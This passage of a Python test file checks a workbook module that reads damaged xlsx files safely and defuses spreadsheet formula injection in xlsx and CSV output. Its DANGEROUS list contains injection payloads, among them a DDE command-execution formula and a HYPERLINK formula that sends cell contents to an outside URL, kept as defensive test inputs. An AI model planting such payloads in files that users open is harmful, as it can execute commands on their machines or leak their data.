    min_size=1, max_size=6,
)  # fmt: skip


def changed(raw, changes):
    spoilt = bytearray(raw)
    for place, byte in changes:
        spoilt[place % len(spoilt)] = byte
    return bytes(spoilt)


def check_outcome(file, raw):
    """Sheets or a refusal; anything else fails the test."""
    file.write_bytes(raw)
    with contextlib.suppress(Refused):
        workbooks.opened(file, limits=Limits(seconds=5))


FUZZED = settings(
    max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@FUZZED
@given(changes=CHANGES, cut=st.integers(0, 30))
def test_any_bytes_of_the_file_may_be_spoilt(file, changes, cut):
    raw = changed(packed(SMALL, zipfile.ZIP_STORED), changes)
    check_outcome(file, raw[: len(raw) - cut])


@FUZZED
@given(part=st.sampled_from(list(SMALL)), changes=CHANGES)
def test_any_bytes_of_any_part_may_be_spoilt(file, part, changes):
    check_outcome(file, packed(SMALL | {part: changed(SMALL[part].encode(), changes)}))


VALUES = ["", "-1", "1e999", "A1:XFD1048576", "9" * 400, "٣", "_x0000_", "../x", "\ud7ff", "NaN"]


@FUZZED
@given(st.sampled_from(list(SMALL)), st.integers(0, 40), st.sampled_from(VALUES))
def test_any_value_of_any_part_may_be_replaced(file, part, number, value):
    pieces = SMALL[part].replace(">", '>"').split('"')
    place = number % len(pieces)
    pieces[place] = value
    text = '"'.join(pieces).replace('>"', ">")
    check_outcome(file, packed(SMALL | {part: text.encode()}))


# what we write

DANGEROUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"x")', "-", "+a", "＝1+1", "\u3000@x", "\ufeff=1+1", "--5",
    "-5-3", "+3.2+1", "\tabc", "-1e5+A1",
]  # fmt: skip
HARMLESS = [
    "-5",
    "+3.2",
    "-1,234",
    "-1,234.5",
    "+1e-5",
    "-.5",
    "",
    "광주",
    "a=b",
    "5-3",
    "'=1",
    "007",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_takes_for_a_formula_is_made_harmless(text):
    assert workbooks.harmless(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_numbers_and_other_texts_are_untouched(text):
    assert workbooks.harmless(text) == text


@pytest.fixture
def stored(file):
    """Write values down column A with `put` and read them back with openpyxl and with us."""

    def written(*values):
        book = openpyxl.Workbook()
        for row, value in enumerate(values, start=1):
            workbooks.put(book.active, row, 1, value)
        workbooks.save(book, file)
        column = [row[0] for row in openpyxl.load_workbook(file).active.iter_rows(max_col=1)]
        return column, workbooks.opened(file)["Sheet"].cells

    return written


def test_dangerous_text_is_stored_as_text_that_stays_text_when_edited(stored):
    theirs, ours = stored(*DANGEROUS)
    assert [cell.data_type for cell in theirs] == ["s"] * len(DANGEROUS)
    assert all(cell.quotePrefix for cell in theirs)
    assert {cell.kind for cell in ours.values()} == {"text"}
    assert [cell.text for cell in ours.values()] == [text.strip() for text in DANGEROUS]


def test_error_names_and_digits_are_stored_as_text(stored):
    theirs, ours = stored("#N/A", "#REF!", "007", "1e5", "2026-03-01", "TRUE", "-5")
    assert [cell.data_type for cell in theirs] == ["s"] * 7
    assert not any(cell.quotePrefix for cell in theirs)
    assert {cell.kind for cell in ours.values()} == {"text"}


def test_other_values_keep_their_kind(stored):
    values = [5, -5.5, np.int64(7), np.float64(0.1), True, np.bool_(False),  # noqa: FBT003
              dt.date(2026, 3, 1), pd.Timestamp("2026-03-01 10:30"), dt.time(10, 30)]  # fmt: skip
    theirs, ours = stored(*values)
    assert list(ours.values()) == [
        Cell("5", "number"), Cell("-5.5", "number"), Cell("7", "number"), Cell("0.1", "number"),
        Cell("TRUE", "truth"), Cell("FALSE", "truth"), Cell("2026-03-01", "date"),
        Cell("2026-03-01T10:30:00", "date"), Cell("10:30:00", "date"),
    ]  # fmt: skip
    assert [cell.data_type for cell in theirs] == ["n", "n", "n", "n", "b", "b", "d", "d", "d"]


def test_nothing_and_missing_values_leave_the_cell_empty(stored):
    assert stored("a", None, math.nan, pd.NA, pd.NaT, "")[1] == {(1, 1): Cell("a", "text")}


def test_what_a_cell_cannot_hold_is_written_as_text(stored):
    aware = dt.datetime(2026, 3, 1, tzinfo=dt.UTC)
    _, ours = stored(math.inf, aware, ["=1+1"], Path("=x"))
    assert list(ours.values()) == [
        Cell("inf", "text"), Cell("2026-03-01 00:00:00+00:00", "text"), Cell("['=1+1']", "text"),
        Cell("=x", "text"),
    ]  # fmt: skip


def test_forbidden_characters_are_replaced_and_long_texts_cut_with_a_mark(stored):
    _, ours = stored("a\0b\x1fc\ud800d\uffffe", "x" * 32_768, "y" * 32_767)
    assert ours[1, 1].text == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert ours[2, 1].text == "x" * 32_766 + "…"
    assert ours[3, 1].text == "y" * 32_767


def test_put_overwrites_a_formula_of_its_cell():
    sheet = openpyxl.Workbook().active
    sheet["A1"] = "=1+1"
    assert workbooks.put(sheet, 1, 1, None).value is None
    cell = workbooks.put(sheet, 1, 1, "=2")
    assert (cell.value, cell.data_type, cell.coordinate) == ("=2", "s", "A1")
    assert not workbooks.put(sheet, 1, 1, "plain").quotePrefix


@settings(max_examples=100, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(
    texts=st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cc"])), max_size=20)
)
def test_text_that_is_written_is_the_text_that_is_read(stored, texts):
    escapes = [f"_x{len(text):04X}_{text}_x005F_" for text in texts]
    written = [text.replace("\ufffe", "").replace("\uffff", "") for text in texts] + escapes
    _, ours = stored("first", *written)
    expected = [unicodedata.normalize("NFC", text).strip() for text in written]
    expected = [text.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd") for text in expected]
    assert [ours.get((row, 1), Cell("", "")).text for row in range(2, len(written) + 2)] == expected


def test_workbook_has_the_same_bytes_each_time(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)

    def made(name, day):
        book = openpyxl.Workbook()
        book.properties.created = dt.datetime(2026, 3, day)  # noqa: DTZ001 - as openpyxl has it
        workbooks.put(book.active, 1, 1, "=1")
        workbooks.save(book, tmp_path / name)
        return (tmp_path / name).read_bytes()

    first = made("a.xlsx", 1)
    assert made("b.xlsx", 2) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {
            (entry.date_time, entry.create_system, entry.compress_type)
            for entry in archive.infolist()
        } == {((1980, 1, 1, 0, 0, 0), 3, zipfile.ZIP_DEFLATED)}
        assert archive.read("docProps/core.xml").count(b">1980-01-01T00:00:00Z<") == 2
    assert openpyxl.load_workbook(tmp_path / "b.xlsx")["Sheet"]["A1"].value == "=1"


@pytest.mark.parametrize("write", [
    lambda path: workbooks.save(openpyxl.Workbook(), path),
    lambda path: workbooks.write_csv(pd.DataFrame({"a": [1]}), path),
])  # fmt: skip
def test_what_cannot_be_written_leaves_everything_as_it_was(tmp_path, monkeypatch, write):
    with pytest.raises(WriteError, match="cannot be written"):
        write(tmp_path / "absent" / "a.out")
    (tmp_path / "a.out").write_bytes(b"old")
    with pytest.raises(WriteError, match="cannot be written"):
        write(tmp_path / "a.out" / "b.out")

    def full(*_):
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(Path, "replace", full)
        with pytest.raises(WriteError, match="No space left"):
            write(tmp_path / "a.out")
    assert [path.name for path in tmp_path.iterdir()] == ["a.out"]
    assert (tmp_path / "a.out").read_bytes() == b"old"
    write(tmp_path / "a.out")
    assert (tmp_path / "a.out").read_bytes() != b"old"
    assert [path.name for path in tmp_path.iterdir()] == ["a.out"]


def test_csv_is_safe_text_and_plain_numbers(tmp_path):
    table = pd.DataFrame({
        "name": ["광주", "=1+1", "a,b", None, "-5"], "x": [0.1, -2.5, math.nan, 1e20, 3.0],
        "n": pd.array([1, None, -3, 4, 5], dtype="Int64"),
        "@head": [True, False, True, True, False], "mixed": [1, None, "+A1", -2, -0.5],
        "day": pd.to_datetime(["2026-03-01"] * 5),
        "kind": pd.Categorical(["a", "a", "b", "=b", "b"]),
    }, index=[9, 8, 7, 6, 5])  # fmt: skip
    before = table.copy()
    workbooks.write_csv(table, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes().decode() == (
        "name,x,n,'@head,mixed,day,kind\n"
        "광주,0.1,1,True,1,2026-03-01,a\n"
        "'=1+1,-2.5,,False,,2026-03-01,a\n"
        '"a,b",,-3,True,\'+A1,2026-03-01,b\n'
        ",1e+20,4,True,-2,2026-03-01,'=b\n"
        "-5,3.0,5,False,-0.5,2026-03-01,b\n"
    )
    pd.testing.assert_frame_equal(table, before)


def test_csv_of_a_text_with_breaks_has_no_row_of_its_own_for_them(tmp_path):
    """A lone carriage return would begin a row, and with it a formula."""
    workbooks.write_csv(
        pd.DataFrame({"a": ["x\r=1+1", "y\r\nz", "p\0q\ud800"]}), tmp_path / "a.csv"
    )
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw == 'a\n"x\n=1+1"\n"y\nz"\np\ufffdq\ufffd\n'.encode()
    assert list(csv.reader(io.StringIO(raw.decode(), newline="")))[1] == ["x\n=1+1"]


def test_csv_of_whole_numbers_with_gaps_has_no_decimals(tmp_path):
    table = pd.DataFrame({"a": pd.Series([1, None, 2], dtype=object)})
    workbooks.write_csv(table, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text("utf-8") == 'a\n1\n""\n2\n'


def test_csv_of_no_rows_has_its_header(tmp_path):
    workbooks.write_csv(pd.DataFrame({"a": [], "b": []}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text("utf-8") == "a,b\n"


def test_column_letters_are_those_of_openpyxl(read):
    for number in (1, 26, 27, 702, 703, 16_384):
        data = f'<row r="1"><c r="{get_column_letter(number)}1"><v>1</v></c></row>'
        assert list(read(data)["S1"].cells) == [(1, number)]


def test_refusal_comes_whole_out_of_another_process(read):
    with pytest.raises(Refused) as caught:
        read(b"")
    again = pickle.loads(pickle.dumps(caught.value))  # noqa: S301 - our own
    assert (again.found, str(again)) == (caught.value.found, str(caught.value))


def test_file_of_the_owner_alone_is_never_open_to_others_not_even_while_it_is_written(
    tmp_path, monkeypatch
):
    path, seen, replace = tmp_path / "own.xlsx", [], Path.replace

    def watched(beside, target):
        seen.append(beside.stat().st_mode & 0o777)
        return replace(beside, target)

    monkeypatch.setattr(Path, "replace", watched)
    path.touch(0o666)
    workbooks.save(openpyxl.Workbook(), path, mode=0o600)
    assert [*seen, path.stat().st_mode & 0o777] == [0o600, 0o600]
